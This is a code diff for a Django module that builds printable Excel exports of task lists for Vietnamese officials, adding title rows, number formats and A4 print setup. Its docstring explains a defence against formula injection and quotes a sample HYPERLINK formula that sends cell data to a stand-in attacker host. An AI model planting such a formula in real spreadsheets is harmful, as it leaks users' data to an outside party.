@@ -1,13 +1,17 @@
-"""Excel exports of the lists leaders act on (openpyxl): Vietnamese headings, dates as
-dd/mm/yyyy, a frozen header row and widths that fit.
+"""Excel exports of the lists leaders act on (openpyxl): a title row, Vietnamese headings,
+dates as dd/mm/yyyy, percentages as 85%, a frozen header row repeated on every printed page,
+A4 landscape fitted to the width, and column widths that fit.
 
 Every text is written as text: what officials type (a task's title, a report's proposals)
 may begin with "=" and would otherwise become a live formula in the leaders' spreadsheet
 (``=HYPERLINK("http://evil.example/?"&A1, "Xem")``)."""
 
 from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
 from datetime import date
+from decimal import Decimal
 from io import BytesIO
+from typing import Any
 
 from django.http import HttpResponse
 from openpyxl import Workbook
@@ -38,30 +42,68 @@ def keep_text(sheet: Worksheet) -> None:
             _as_text(cell)
 
 
+@dataclass(frozen=True)
+class Column:
+    """A column of an export: its heading, its width in characters, and how its numbers read
+    ("percent": 0–100 shown as "85%"; "number": 1.234,5 as the office's Excel shows it)."""
+
+    heading: str
+    width: int
+    kind: str = "text"
+
+
+FORMATS = {"percent": '0"%"', "number": "#,##0.##"}
+HEADING_ROW = 3  # row 1: the title, row 2: blank, row 3: the headings
+
+
 def workbook_response(
-    *, filename: str, title: str, headings: Sequence[tuple[str, int]], rows: Iterable[Sequence]
+    *,
+    filename: str,
+    title: str,
+    headings: Sequence[tuple[str, int] | Column],
+    rows: Iterable[Sequence[Any]],
+    day: date | None = None,
 ) -> HttpResponse:
-    """An .xlsx download; ``headings`` are (text, width in characters)."""
+    """An .xlsx download ready to print: a title row ("DANH SÁCH NHIỆM VỤ QUÁ HẠN tính đến
+    ngày 24/11/2026"), the headings (repeated on every printed page, frozen on screen), A4
+    landscape fitted to the page's width; ``headings`` are columns or (text, width) pairs."""
+    columns = [h if isinstance(h, Column) else Column(h[0], h[1]) for h in headings]
     book = Workbook()
     sheet = book.active
     sheet.title = title[:31]
-    sheet.append([text for text, _width in headings])
-    for cell in sheet[1]:
+    heading = title.upper() + (f" tính đến ngày {day:%d/%m/%Y}" if day else "")
+    sheet.append([heading])
+    sheet.append([])
+    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(columns))
+    sheet["A1"].font = Font(bold=True, size=14)
+    sheet["A1"].alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
+    sheet.row_dimensions[1].height = 36
+    sheet.append([column.heading for column in columns])
+    for cell in sheet[HEADING_ROW]:
         cell.font = Font(bold=True)
         cell.fill = PatternFill("solid", fgColor="DDE7F0")
         cell.alignment = Alignment(wrap_text=True, vertical="top")
-    for index, (_text, width) in enumerate(headings, start=1):
-        sheet.column_dimensions[get_column_letter(index)].width = width
+    for index, column in enumerate(columns, start=1):
+        sheet.column_dimensions[get_column_letter(index)].width = column.width
     for row in rows:
         sheet.append(list(row))
     keep_text(sheet)
-    for row in sheet.iter_rows(min_row=2):
-        for cell in row:
+    for row in sheet.iter_rows(min_row=HEADING_ROW + 1):
+        for column, cell in zip(columns, row, strict=False):
             if isinstance(cell.value, date):
                 cell.number_format = "DD/MM/YYYY"
+            elif column.kind in FORMATS and isinstance(cell.value, int | float | Decimal):
+                cell.number_format = FORMATS[column.kind]
             cell.alignment = Alignment(wrap_text=True, vertical="top")
-    sheet.freeze_panes = "A2"
-    sheet.auto_filter.ref = sheet.dimensions
+    sheet.freeze_panes = f"A{HEADING_ROW + 1}"
+    last = get_column_letter(len(columns))
+    sheet.auto_filter.ref = f"A{HEADING_ROW}:{last}{max(sheet.max_row, HEADING_ROW)}"
+    sheet.print_title_rows = f"{HEADING_ROW}:{HEADING_ROW}"
+    sheet.page_setup.orientation = "landscape"
+    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
+    sheet.page_setup.fitToWidth = 1
+    sheet.page_setup.fitToHeight = 0
+    sheet.sheet_properties.pageSetUpPr.fitToPage = True
     buffer = BytesIO()
     book.save(buffer)
     response = HttpResponse(buffer.getvalue(), content_type=XLSX)
